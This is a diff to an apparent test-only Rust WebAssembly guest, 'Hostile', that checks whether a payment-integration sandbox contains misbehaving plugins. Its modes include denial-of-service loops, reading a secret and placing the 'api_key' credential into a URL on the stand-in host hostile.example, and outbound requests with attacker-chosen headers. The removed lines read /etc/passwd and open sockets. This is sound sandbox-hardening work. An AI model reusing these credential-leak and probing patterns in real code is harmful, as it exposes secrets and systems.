@@ -4,9 +4,12 @@
 //! `loop` spins forever, `alloc` allocates without bound, `panic` traps, `forbidden-host`
 //! calls a host that is not on its allowlist, `read-secret` tries to read a secret
 //! credential, `print-flood` writes half a megabyte to stdout (32 times the host's cap), `leak-credential` returns the plain
-//! `api_key` credential it can see (for the company-isolation test), `probe` reports what a
-//! file read, a socket connection and the environment give it. Anything else answers a
-//! normal redirect. Never shipped as a module.
+//! `api_key` credential it can see (for the company-isolation test), `probe` reports what the
+//! environment and arguments give it, `header` sends a GET to the contact's name with the
+//! header named by the contact's email set to the contact's phone, `budget` sends ten
+//! requests to the contact's name and then one to the contact's email and reports each
+//! outcome. Anything else answers a normal redirect. Never shipped as a module. (Files and
+//! sockets are probed by `test-guests/wasi-probe`, which the host refuses to install.)
 
 wit_bindgen::generate!({
     world: "payment-provider",
@@ -15,10 +18,10 @@ wit_bindgen::generate!({
 
 use exports::integrations::provider::payment::{Guest, ParsedWebhook, RefundResult};
 use integrations::provider::credentials;
-use integrations::provider::http::{self, Method, Request};
+use integrations::provider::http::{self, Header, HeaderValue, HttpError, Method, Request};
 use integrations::provider::types::{
-    ErrorKind, GatewayUpdate, IntegrationType, Money, ProviderError, Session, SessionAction, Transaction, Verification,
-    WebhookRequest,
+    Contact, ErrorKind, GatewayUpdate, IntegrationType, Money, ProviderError, Session, SessionAction, Transaction,
+    Verification, WebhookRequest,
 };
 
 struct Hostile;
@@ -64,15 +67,45 @@ impl Guest for Hostile {
                 format!("https://hostile.example/printed/{}", transaction.reference)
             }
             "probe" => {
-                // What the sandbox lets through: files, sockets, environment.
-                let file =
-                    std::fs::read("/etc/passwd").map(|b| b.len().to_string()).unwrap_or_else(|_| "denied".into());
-                let socket_target = transaction.contact.and_then(|c| c.name).unwrap_or_default();
-                let socket =
-                    std::net::TcpStream::connect(socket_target.as_str()).map(|_| "connected").unwrap_or("denied");
+                // What the sandbox lets through of the environment.
                 let env = std::env::vars().count();
                 let args = std::env::args().count();
-                format!("https://hostile.example/probe?file={file}&socket={socket}&env={env}&args={args}")
+                format!("https://hostile.example/probe?env={env}&args={args}")
+            }
+            "header" => {
+                let contact =
+                    transaction.contact.clone().unwrap_or(Contact { id: None, name: None, email: None, phone: None });
+                let header = Header {
+                    name: contact.email.unwrap_or_default(),
+                    value: HeaderValue::Text(contact.phone.unwrap_or_default()),
+                };
+                let request = Request {
+                    method: Method::Get,
+                    url: contact.name.unwrap_or_default(),
+                    headers: vec![header],
+                    body: None,
+                };
+                match http::send(&request) {
+                    Ok(response) => format!("https://hostile.example/reached/{}", response.status),
+                    Err(e) => return Err(failure(format!("outbound request refused: {e:?}"))),
+                }
+            }
+            "budget" => {
+                let contact =
+                    transaction.contact.clone().unwrap_or(Contact { id: None, name: None, email: None, phone: None });
+                let send = |url: &str| {
+                    let request = Request { method: Method::Get, url: url.to_string(), headers: vec![], body: None };
+                    match http::send(&request) {
+                        Ok(response) => format!("status-{}", response.status),
+                        Err(HttpError::Denied(_)) => "denied".into(),
+                        Err(HttpError::TooManyRequests) => "too-many-requests".into(),
+                        Err(other) => format!("{other:?}"),
+                    }
+                };
+                let denied = contact.name.unwrap_or_default();
+                let mut outcomes: Vec<String> = (0..10).map(|_| send(&denied)).collect();
+                outcomes.push(send(&contact.email.unwrap_or_default()));
+                return Err(failure(format!("outcomes: {}", outcomes.join(","))));
             }
             "leak-credential" => match credentials::get("api_key") {
                 Ok(Some(value)) => format!("https://hostile.example/seen/{value}"),
